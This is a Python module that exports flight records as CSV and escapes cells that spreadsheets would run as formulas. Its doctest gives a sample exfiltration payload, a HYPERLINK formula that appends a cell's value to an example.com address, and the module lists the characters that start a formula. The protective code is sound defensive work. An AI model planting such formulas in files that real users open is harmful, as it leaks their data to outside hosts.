"""Write flights as a CSV file that somebody may open in a spreadsheet."""

import csv
from collections.abc import Iterable
from io import TextIOWrapper
from pathlib import Path

from work.files import path_inside, whole_or_absent
from work.flights.flight_file import COLUMNS
from work.flights.timetable import check_name

FOLDER = "exports"  # among the lab's files

# A spreadsheet takes a cell that begins like this for a formula and runs it, also one that asks
# another program, or sends other cells to an address.  (The wide ones are typed in East Asia.)
_FORMULA_BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001


def file_of(folder: Path, source: str) -> Path:
    """The file that an export of this source becomes: exports/SOURCE.csv in the folder."""
    return path_inside(folder, f"{FOLDER}/{check_name(source)}.csv", "source")


def write(flights: Iterable[dict], path: Path) -> dict[str, int]:
    """Write the flights one by one; the file is there when all of them are in it.

    Returns {"rows": int, "size_bytes": int}.
    Raises ValueError if there is no flight; no file is made then.
    """
    rows = 0
    with whole_or_absent(path) as file:
        text = TextIOWrapper(file, encoding="utf-8", newline="")
        table = csv.writer(text, lineterminator="\n")
        table.writerow(COLUMNS)
        for flight in flights:
            price_eur = f"{flight['price_cents'] // 100}.{flight['price_cents'] % 100:02}"
            values = flight | {"price_eur": price_eur}
            table.writerow([harmless(str(values[name])) for name in COLUMNS])
            rows += 1
        if not rows:
            raise ValueError(f"source must be one that has flights, got {path.stem!r}")
        text.flush()
        size_bytes = file.tell()
        text.detach()  # the file is closed by whole_or_absent
    return {"rows": rows, "size_bytes": size_bytes}


def harmless(cell: str) -> str:
    """The cell as text that no spreadsheet runs: an apostrophe in front says "this is text".

    >>> harmless('=HYPERLINK("http://example.com/?" & A1)')
    '\\'=HYPERLINK("http://example.com/?" & A1)'
    >>> harmless("AMS")
    'AMS'
    """
    return f"'{cell}" if cell.lstrip(" ").startswith(_FORMULA_BEGINS) else cell
